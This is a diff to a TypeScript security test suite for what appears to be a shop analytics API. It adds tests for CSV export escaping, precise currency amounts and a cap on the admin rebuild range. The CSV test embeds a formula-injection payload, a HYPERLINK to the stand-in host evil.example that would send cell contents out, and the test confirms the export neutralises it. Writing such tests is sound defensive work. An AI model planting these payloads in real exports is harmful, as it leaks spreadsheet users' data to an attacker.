@@ -12,8 +12,10 @@ import { handler as webhook } from '#functions/webhook/handler.ts';
 import { createApiKey, putShop } from '#lib/store/shops.ts';
 import { setDb } from '#lib/store/client.ts';
 import { resetConfig } from '#lib/config.ts';
+import { recordBatch } from '#lib/ingest/record-batch.ts';
 
 const SECRET_VALUES = Object.values(TEST_SECRETS);
+const addDaysIso = (day: string, n: number) => new Date(Date.parse(`${day}T00:00:00Z`) + n * 86_400_000).toISOString().slice(0, 10);
 
 describe('security', () => {
   let keyA: string;
@@ -82,6 +84,46 @@ describe('security', () => {
     const res = await call(webhook, httpEvent({ method: 'POST', path: '/webhooks/meta', body: raw, headers: { 'x-hub-signature-256': metaSign(raw, TEST_SECRETS.META_APP_SECRET) } }));
     expect(res.status).toBe(400);
     expect(res.body.error.message).toBe('Request body is not valid JSON');
+  });
+
+  it('writes hostile ids into CSV as text, never as a live formula', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm")';
+    const at = new Date(Date.now() - 3_600_000).toISOString();
+    const day = at.slice(0, 10);
+    await recordBatch('sec-a', [
+      { id: 'csv-1', kind: 'message.received', at, pageId: PAGE, customerId: 'csv-c1', adId: evil },
+      { id: 'csv-2', kind: 'message.received', at, pageId: PAGE, customerId: 'csv-c2', adId: '@SUM(1)' },
+      { id: 'csv-3', kind: 'message.received', at, pageId: PAGE, customerId: 'csv-c3', adId: '-2+3' },
+    ]);
+    const res = await call(report, httpEvent({ method: 'GET', path: '/v1/shops/sec-a/reports/ads', query: `from=${addDaysIso(day, -1)}&to=${addDaysIso(day, 1)}&format=csv`, headers: { authorization: `Bearer ${keyA}` } }));
+    expect(res.status).toBe(200);
+    const firstCells = res.raw.replace(/^\uFEFF/, '').split('\r\n').slice(1).filter(Boolean).map((line) => line.split(',')[0]);
+    expect(firstCells).toEqual(expect.arrayContaining([`"'=HYPERLINK(""http://evil.example/?d=""&A2`, `"'@SUM(1)"`, `"'-2+3"`]));
+    for (const line of res.raw.split('\r\n')) expect(line).not.toMatch(/^[=+@-]|,[=+@]/);
+  });
+
+  it('refuses an amount that cannot be kept exactly with a 400 naming the event and field', async () => {
+    await putShop(makeShop('sec-kwd', { currency: 'KWD', pages: [{ pageId: 'sec-kwd-page', channel: 'facebook', name: 'K' }] }));
+    const kwdKey = await createApiKey('sec-kwd');
+    const order = { id: 'big-1', kind: 'order.created', at: new Date().toISOString(), orderId: 'o-big', pageId: 'sec-kwd-page', total: 9999999999999.999 };
+    const res = await call(events, httpEvent({ method: 'POST', path: '/v1/events', headers: { authorization: `Bearer ${kwdKey}` }, body: { events: [{ ...order, id: 'small-1', orderId: 'o-small', total: 12.5 }, order] } }));
+    expect(res.status).toBe(400);
+    expect(res.body.error.code).toBe('invalid_request');
+    expect(res.body.error.details).toEqual([{ index: 1, path: 'total', message: expect.stringContaining('KWD') }]);
+  });
+
+  it('caps an admin rebuild at 366 days like reports', async () => {
+    const rebuild = (from: string, to: string) =>
+      call(admin, httpEvent({ method: 'POST', path: '/v1/admin/rebuild', headers: { authorization: `Bearer ${TEST_SECRETS.ADMIN_TOKEN}` }, body: { shopId: 'sec-a', from, to } }));
+    const long = await rebuild('2000-01-01', '2099-12-31'); // a century: refused before any work
+    expect(long.status).toBe(400);
+    expect(long.body.error.details).toEqual([{ path: 'to', message: 'a range is at most 366 days' }]);
+    // today-365 .. today is 366 days (both ends inclusive) and allowed; one more day is not
+    const today = new Date().toISOString().slice(0, 10);
+    const over = await rebuild(addDaysIso(today, -366), today);
+    expect(over.status).toBe(400);
+    expect(over.body.error.details).toEqual([{ path: 'to', message: 'a range is at most 366 days' }]);
+    expect((await rebuild(addDaysIso(today, -365), today)).status).toBe(200);
   });
 
   it('turns an internal failure into a 500 with a request id, no stack and no secret, in the response and the logs', async () => {
